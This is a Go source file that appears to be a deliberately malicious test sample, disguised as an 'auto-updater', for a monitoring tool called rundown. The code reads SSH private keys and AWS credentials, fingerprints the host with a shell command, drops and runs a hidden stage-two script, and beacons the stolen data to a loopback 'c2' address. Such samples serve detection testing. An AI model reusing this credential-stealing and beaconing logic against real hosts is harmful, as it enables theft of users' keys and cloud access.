// updater: a Go "auto-updater" (test program for rundown, malicious on purpose; loopback
// only, the secrets are fake). It reads ~/.ssh/id_rsa and ~/.aws/credentials, fingerprints
// the host with `sh -c "uname -a; id"`, drops /tmp/.updater/update.sh, makes it executable
// and runs it, then "checks in" with 127.0.0.1:4444, where nothing listens: net.Dial's
// non-blocking connect (EINPROGRESS, epoll, SO_ERROR) is refused, three tries 300 ms apart. Exits 0.
package main

import (
	"fmt"
	"log"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

const c2 = "127.0.0.1:4444"

func readSecrets(home string) map[string][]byte {
	got := map[string][]byte{}
	for _, rel := range []string{".ssh/id_rsa", ".aws/credentials"} {
		b, err := os.ReadFile(filepath.Join(home, rel))
		if err != nil {
			log.Printf("skip %s: %v", rel, err)
			continue
		}
		got[rel] = b
	}
	return got
}

func fingerprint() []byte {
	out, err := exec.Command("sh", "-c", "uname -a; id").Output()
	if err != nil {
		log.Printf("fingerprint: %v", err)
	}
	return out
}

func stage2() error {
	dir := "/tmp/.updater"
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	script := filepath.Join(dir, "update.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\necho update applied\n"), 0o644); err != nil {
		return err
	}
	if err := os.Chmod(script, 0o755); err != nil {
		return err
	}
	out, err := exec.Command(script).CombinedOutput()
	log.Printf("stage2: %s", out)
	return err
}

func beacon(payload []byte) bool {
	for attempt := 1; attempt <= 3; attempt++ {
		conn, err := net.Dial("tcp", c2)
		if err == nil {
			conn.Write(payload)
			conn.Close()
			return true
		}
		log.Printf("check-in %d/3 failed: %v", attempt, err)
		time.Sleep(300 * time.Millisecond)
	}
	return false
}

func main() {
	log.SetPrefix("updater: ")
	home, _ := os.UserHomeDir()
	secrets := readSecrets(home)
	host := fingerprint()
	if err := stage2(); err != nil {
		log.Printf("stage2: %v", err)
	}
	payload := []byte(fmt.Sprintf("host=%q keys=%d", host, len(secrets)))
	for _, b := range secrets {
		payload = append(payload, b...)
	}
	if !beacon(payload) {
		log.Printf("no update server, will retry later")
	}
	// stay up briefly so the ss/ps snapshots see the process
	time.Sleep(1 * time.Second)
	log.Printf("idle")
	time.Sleep(1 * time.Second)
}
